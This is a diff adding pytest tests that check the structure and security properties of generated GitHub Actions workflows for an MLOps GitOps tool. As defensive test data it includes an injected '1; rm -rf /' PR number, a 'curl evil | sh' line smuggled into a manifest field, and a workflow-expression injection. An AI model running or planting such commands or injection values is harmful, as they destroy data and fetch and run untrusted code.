@@ -1,0 +1,385 @@
+"""The generated workflows: structure and security properties, read back by parsing the YAML."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+from ruamel.yaml import YAML
+
+from mlops_gitops import __version__
+from mlops_gitops.errors import ManifestError
+from mlops_gitops.manifest.loader import load_manifest_text
+from mlops_gitops.manifest.model import Manifest
+from mlops_gitops.render.actions import ACTIONS
+from mlops_gitops.render.workflows import render_workflows
+from mlops_gitops.resources import examples_dir
+
+WF = ".github/workflows/"
+
+FULL = """\
+version: 1
+project: {name: iris, default_branch: trunk}
+python:
+  version: "3.12"
+  install: "pip install -r requirements.txt && echo 'done: #1' \\"quoted\\""
+  requirements: [requirements.txt, pyproject.toml]
+stages:
+  train:
+    cmd: python train.py
+    deps: [train.py, data/iris.csv]
+    params: [train]
+    outs: [model.pkl]
+    metrics: [{metrics.json: {cache: false}}]
+metrics:
+  gates:
+    - {metric: accuracy, min: 0.8}
+data:
+  remote: "storage: s3 #main"
+  secrets: {DVC_EXTRA_TOKEN: DATA_TOKEN, OTHER_VAR: OTHER_SECRET}
+cloud:
+  provider: __PROVIDER__
+__CLOUD__
+triggers:
+  paths: ["src/**", "!src/**/*.md", "*.py", "params.yaml", "**.dvc", "dvc.lock"]
+  schedule: "0 3 * * 1"
+runners:
+  default: {runs_on: ubuntu-22.04, timeout_minutes: 20}
+  train: {runs_on: [self-hosted, gpu], timeout_minutes: 240}
+  deploy: {timeout_minutes: 7}
+  monitor: {runs_on: [self-hosted, cpu]}
+deploy:
+  model: {name: iris, path: model.pkl}
+  token_secret: DEPLOY_TOKEN
+  environments:
+    - {name: staging, file: k8s/staging.yaml, field: spec.model.uri, value: "s3://m/{model_hash}",
+       github_environment: staging}
+    - {name: canary, file: k8s/canary.yaml, field: spec.model.uri, value: "s3://m/{model_hash}",
+       after: [staging], auto: true}
+    - {name: production, repo: org/gitops, file: prod.yaml, field: spec.model.uri,
+       value: "s3://m/{model_hash}", after: [staging, canary], github_environment: "prod approvals"}
+monitoring:
+  logs: logs/
+  baseline: data/iris.csv
+  schedule: "0 5 * * *"
+  on_drift: {retrain: true}
+"""
+
+CLOUDS = {
+    "aws": '  aws: {role_to_assume: "arn:aws:iam::123456789012:role/dvc", region: eu-west-1}',
+    "gcp": (
+        "  gcp: {workload_identity_provider: projects/1/locations/global/workloadIdentityPools/p/providers/g,"
+        " service_account: dvc@proj.iam.gserviceaccount.com}"
+    ),
+    "azure": "  azure: {client_id: c-1, tenant_id: t-2, subscription_id: s-3}",
+    "none": "",
+}
+
+MINIMAL = """\
+version: 1
+project: {name: tiny}
+stages:
+  train: {cmd: python train.py, deps: [train.py], outs: [model.pkl]}
+"""
+
+
+def full_manifest(provider: str = "aws") -> Manifest:
+    return load_manifest_text(FULL.replace("__PROVIDER__", provider).replace("__CLOUD__", CLOUDS[provider]))
+
+
+def example_manifest() -> Manifest:
+    return load_manifest_text((examples_dir() / "iris" / "mlops.example.yaml").read_text())
+
+
+def parse(text: str) -> dict[str, Any]:
+    data: dict[str, Any] = YAML(typ="safe", pure=True).load(text)
+    return data
+
+
+def all_manifests() -> list[tuple[str, Manifest]]:
+    return [
+        ("example", example_manifest()),
+        ("minimal", load_manifest_text(MINIMAL)),
+        *[(f"full-{p}", full_manifest(p)) for p in CLOUDS],
+    ]
+
+
+def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
+    result: list[dict[str, Any]] = job["steps"]
+    return result
+
+
+@pytest.fixture(scope="module", params=[name for name, _ in all_manifests()])
+def rendered(request: pytest.FixtureRequest) -> tuple[Manifest, dict[str, str]]:
+    manifest = dict(all_manifests())[request.param]
+    return manifest, render_workflows(manifest)
+
+
+def test_security_properties_hold_in_every_workflow(rendered: tuple[Manifest, dict[str, str]]) -> None:
+    _, files = rendered
+    pinned = {a.ref for a in ACTIONS.values()}
+    for path, text in files.items():
+        wf = parse(text)
+        assert wf["permissions"] == {}, path
+        assert "pull_request_target" not in wf["on"], path
+        for job_id, job in wf["jobs"].items():
+            where = f"{path}:{job_id}"
+            assert isinstance(job["timeout-minutes"], int) and job["timeout-minutes"] > 0, where
+            assert isinstance(job["permissions"], dict), where
+            for step in steps(job):
+                if "uses" in step:
+                    assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", step["uses"]), where
+                    assert step["uses"] in pinned, where
+                if step.get("uses", "").startswith("actions/checkout@"):
+                    assert step["with"]["persist-credentials"] is False, where
+                # Expressions may feed env: and with:, never the shell script itself.
+                assert "${{" not in step.get("run", ""), f"{where}: {step.get('name')}"
+        # Each pin keeps its release in a comment on the same line.
+        for line in text.splitlines():
+            if "uses:" in line:
+                assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
+
+
+def test_oidc_token_only_where_the_cloud_is_reached(rendered: tuple[Manifest, dict[str, str]]) -> None:
+    manifest, files = rendered
+    cloud = manifest.cloud.provider != "none"
+    cloud_jobs = {("mlops-pr.yml", "train"), ("mlops-train.yml", "train"), ("mlops-monitor.yml", "monitor")}
+    cloud_actions = {ACTIONS[k].ref for k in ("aws", "gcp", "azure")}
+    for path, text in files.items():
+        for job_id, job in parse(text)["jobs"].items():
+            key = (path.removeprefix(WF), job_id)
+            has_token = job["permissions"].get("id-token") == "write"
+            assert has_token == (cloud and key in cloud_jobs), key
+            logins = [s for s in steps(job) if s.get("uses") in cloud_actions]
+            assert len(logins) == (1 if has_token else 0), key
+
+
+def test_pr_workflow_checks_then_trains_only_when_inputs_changed(
+    rendered: tuple[Manifest, dict[str, str]],
+) -> None:
+    manifest, files = rendered
+    wf = parse(files[WF + "mlops-pr.yml"])
+    assert wf["name"] == "mlops-pr"
+    assert list(wf["on"]) == ["pull_request"]
+    assert wf["concurrency"]["cancel-in-progress"] is True
+    assert "pull_request.number" in wf["concurrency"]["group"]
+    check, train = wf["jobs"]["check"], wf["jobs"]["train"]
+    assert check["permissions"] == {"contents": "read"}
+    runs = [s.get("run", "") for s in steps(check)]
+    assert f'python -m pip install "mlops-gitops=={__version__}"' in runs
+    assert "mlops-gitops validate" in runs
+    assert "mlops-gitops generate --check" in runs
+    changed = next(s for s in steps(check) if s.get("id") == "changed")
+    assert changed["run"] == 'mlops-gitops changed --base "$BASE_SHA"'
+    assert changed["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
+    assert steps(check)[0]["with"]["fetch-depth"] == 0
+    assert check["outputs"]["retrain"] == "${{ steps.changed.outputs.retrain }}"
+
+    assert train["needs"] == "check"
+    assert train["if"] == "needs.check.outputs.retrain == 'true'"
+    assert train["runs-on"] == _runs_on(manifest, "train")
+    assert train["timeout-minutes"] == manifest.runner("train").timeout_minutes
+    train_runs = "\n".join(s.get("run", "") for s in steps(train))
+    assert manifest.install in [s.get("run") for s in steps(train)]
+    names = [s.get("name", "") for s in steps(train)]
+    assert names.index("DVC cache") < names.index("Reproduce the pipeline, reusing the run-cache")
+    cache = next(s for s in steps(train) if s.get("name") == "DVC cache")
+    assert cache["with"]["path"] == ".dvc/cache" and "hashFiles('dvc.lock')" in cache["with"]["key"]
+    reproduce = next(s for s in steps(train) if s.get("name", "").startswith("Reproduce"))
+    assert reproduce["if"] == "steps.mode.outputs.reproduce == 'true'"
+    if manifest.data_remote:
+        assert "dvc repro --pull --allow-missing" in reproduce["run"]
+        assert 'dvc push --run-cache --remote "$DVC_REMOTE"' in reproduce["run"]
+        assert reproduce["env"]["DVC_REMOTE"] == manifest.data_remote
+    for var, secret in manifest.data_secrets.items():
+        assert reproduce["env"][var] == f"${{{{ secrets.{secret} }}}}"
+    # Fork PRs: no secrets, so no reproduction; the report says so plainly.
+    mode = next(s for s in steps(train) if s.get("id") == "mode")
+    assert mode["env"]["HEAD_REPO"] == "${{ github.event.pull_request.head.repo.full_name }}"
+    assert "could not reproduce" in train_runs
+    assert '--output "$out/report.md" --json-output "$out/report.json"' in train_runs
+    assert 'printf \'%s\\n\' "$PR_NUMBER" > "$RUNNER_TEMP/mlops-report/pr-number.txt"' in train_runs
+    upload = steps(train)[-1]
+    assert upload["uses"] == ACTIONS["upload_artifact"].ref
+    assert upload["with"]["name"] == "mlops-report"
+    assert upload["if"] == "${{ !cancelled() }}"
+    # The report step runs whether or not this run reproduced, and its exit code fails the check.
+    report = next(s for s in steps(train) if s.get("id") == "report")
+    assert "if" not in report and "continue-on-error" not in report
+
+
+def test_comment_workflow_never_touches_pr_code(rendered: tuple[Manifest, dict[str, str]]) -> None:
+    _, files = rendered
+    text = files[WF + "mlops-comment.yml"]
+    wf = parse(text)
+    assert wf["name"] == "mlops-comment"
+    assert wf["on"] == {"workflow_run": {"workflows": ["mlops-pr"], "types": ["completed"]}}
+    # The only zizmor suppression, with its reason on the line above.
+    assert "workflow_run: # zizmor: ignore[dangerous-triggers]" in text
+    (job,) = wf["jobs"].values()
+    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
+    uses = [s["uses"] for s in steps(job) if "uses" in s]
+    assert ACTIONS["checkout"].ref not in uses
+    download = next(s for s in steps(job) if s.get("uses") == ACTIONS["download_artifact"].ref)
+    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
+    assert download["with"]["name"] == "mlops-report"
+    post = steps(job)[-1]
+    assert (
+        post["run"] == 'mlops-gitops comment --report "$RUNNER_TEMP/mlops-report/report.md" --pr "$PR_NUMBER"'
+    )
+    assert post["env"]["GITHUB_TOKEN"] == "${{ secrets.GITHUB_TOKEN }}"
+
+
+@pytest.mark.parametrize(
+    "value,valid",
+    [
+        ("12", True),
+        ("7", True),
+        ("0", False),
+        ("1; rm -rf /", False),
+        ("", False),
+        ("12\n13", False),
+        ("-1", False),
+        ("１２", False),
+    ],
+)
+def test_comment_workflow_accepts_only_an_integer_pr_number(tmp_path: Any, value: str, valid: bool) -> None:
+    import subprocess
+
+    job = next(
+        iter(parse(render_workflows(load_manifest_text(MINIMAL))[WF + "mlops-comment.yml"])["jobs"].values())
+    )
+    check = next(s for s in steps(job) if s.get("id") == "check")
+    report_dir = tmp_path / "mlops-report"
+    report_dir.mkdir()
+    (report_dir / "pr-number.txt").write_text(value + "\n")
+    (report_dir / "report.md").write_text("report")
+    out = tmp_path / "out"
+    proc = subprocess.run(
+        ["bash", "-e", "-c", check["run"]],
+        env={"RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(out), "PATH": "/usr/bin:/bin"},
+        capture_output=True,
+        text=True,
+    )
+    assert (proc.returncode == 0) == valid, proc.stdout + proc.stderr
+    if valid:
+        assert out.read_text() == f"pr={value}\n"
+
+
+def test_train_workflow_follows_the_manifest_triggers(rendered: tuple[Manifest, dict[str, str]]) -> None:
+    manifest, files = rendered
+    wf = parse(files[WF + "mlops-train.yml"])
+    assert wf["name"] == "mlops-train"
+    assert wf["on"]["push"] == {"branches": [manifest.default_branch], "paths": list(manifest.train_paths)}
+    assert "workflow_dispatch" in wf["on"]
+    if manifest.schedule:
+        assert wf["on"]["schedule"] == [{"cron": manifest.schedule}]
+    else:
+        assert "schedule" not in wf["on"]
+    assert wf["concurrency"]["cancel-in-progress"] is False
+    job = wf["jobs"]["train"]
+    assert job["runs-on"] == _runs_on(manifest, "train")
+    assert job["timeout-minutes"] == manifest.runner("train").timeout_minutes
+    assert job["permissions"]["contents"] == "read"
+    run = "\n".join(s.get("run", "") for s in steps(job))
+    if manifest.data_remote:
+        assert "dvc repro --pull --allow-missing" in run and "dvc push --run-cache" in run
+    else:
+        assert "dvc repro" in run and "dvc push" not in run
+
+
+def test_deploy_workflow_orders_environments_and_scopes_write_access(
+    rendered: tuple[Manifest, dict[str, str]],
+) -> None:
+    manifest, files = rendered
+    if not manifest.deploy:
+        assert WF + "mlops-deploy.yml" not in files
+        return
+    wf = parse(files[WF + "mlops-deploy.yml"])
+    assert wf["on"]["workflow_run"] == {
+        "workflows": ["mlops-train"],
+        "types": ["completed"],
+        "branches": [manifest.default_branch],
+    }
+    choice = wf["on"]["workflow_dispatch"]["inputs"]["environment"]
+    assert choice["type"] == "choice"
+    assert choice["options"] == [e.name for e in manifest.deploy.environments]
+    jobs = wf["jobs"]
+    assert len(jobs) == len(manifest.deploy.environments)
+    ids = {e.name: f"promote-{e.name}" for e in manifest.deploy.environments}
+    for env in manifest.deploy.environments:
+        job = jobs[ids[env.name]]
+        assert job.get("needs", []) == [ids[a] for a in env.after]
+        assert job.get("environment") == env.github_environment
+        assert job["timeout-minutes"] == manifest.runner("deploy").timeout_minutes
+        assert ("workflow_run.conclusion == 'success'" in job["if"]) == env.auto
+        assert f"inputs.environment == '{env.name}'" in job["if"]
+        if manifest.deploy.token_secret:
+            assert job["permissions"] == {"contents": "read"}
+        else:
+            assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
+        promote = steps(job)[-1]
+        assert promote["run"] == 'mlops-gitops promote --env "$ENVIRONMENT" --model-ref "$MODEL_REF"'
+        assert promote["env"]["ENVIRONMENT"] == env.name
+        secret = manifest.deploy.token_secret or "GITHUB_TOKEN"
+        assert promote["env"]["GITHUB_TOKEN"] == f"${{{{ secrets.{secret} }}}}"
+
+
+def test_monitor_workflow_only_when_configured(rendered: tuple[Manifest, dict[str, str]]) -> None:
+    manifest, files = rendered
+    if not manifest.monitoring:
+        assert WF + "mlops-monitor.yml" not in files
+        return
+    wf = parse(files[WF + "mlops-monitor.yml"])
+    assert wf["on"]["schedule"] == [{"cron": manifest.monitoring.get("schedule", "0 6 * * *")}]
+    job = wf["jobs"]["monitor"]
+    assert job["permissions"]["issues"] == "write"
+    retrain = (manifest.monitoring.get("on_drift") or {}).get("retrain", False)
+    assert ("actions" in job["permissions"]) == retrain
+    assert any(s.get("run") == 'mlops-gitops monitor --output "$RUNNER_TEMP/monitor.md"' for s in steps(job))
+
+
+def test_example_renders_the_three_core_workflows_and_deploy() -> None:
+    files = render_workflows(example_manifest())
+    assert sorted(files) == [
+        WF + n for n in ("mlops-comment.yml", "mlops-deploy.yml", "mlops-pr.yml", "mlops-train.yml")
+    ]
+    for text in files.values():
+        assert not text.startswith("#!") and text.endswith("\n") and not text.endswith("\n\n")
+
+
+def test_rendering_is_deterministic() -> None:
+    manifest = full_manifest("gcp")
+    assert render_workflows(manifest) == render_workflows(full_manifest("gcp"))
+
+
+def test_manifest_values_cannot_inject_yaml() -> None:
+    hostile = MINIMAL.replace(
+        "project: {name: tiny}",
+        'project: {name: tiny, default_branch: "main\\n    evil: true"}\n'
+        'python: {install: "pip install x\\n  - run: curl evil | sh\\njobs: {}"}\n'
+        'triggers: {paths: ["a: b", "\'quoted\'", "# not a comment", "[x]"]}',
+    )
+    manifest = load_manifest_text(hostile)
+    files = render_workflows(manifest)
+    train = parse(files[WF + "mlops-train.yml"])
+    assert train["on"]["push"]["branches"] == ["main\n    evil: true"]
+    assert train["on"]["push"]["paths"] == ["a: b", "'quoted'", "# not a comment", "[x]"]
+    install = next(
+        s for s in steps(train["jobs"]["train"]) if s.get("name") == "Install the project's requirements"
+    )
+    assert install["run"] == manifest.install
+    assert set(parse(files[WF + "mlops-pr.yml"])["jobs"]) == {"check", "train"}
+
+
+def test_expressions_in_manifest_values_are_refused() -> None:
+    hostile = MINIMAL + 'python: {install: "pip install ${{ github.event.pull_request.title }}"}\n'
+    with pytest.raises(ManifestError) as err:
+        render_workflows(load_manifest_text(hostile))
+    assert "python.install" in str(err.value) and "${{" in str(err.value)
+
+
+def _runs_on(manifest: Manifest, job: str) -> Any:
+    runs_on = manifest.runner(job).runs_on
+    return list(runs_on) if isinstance(runs_on, tuple) else runs_on
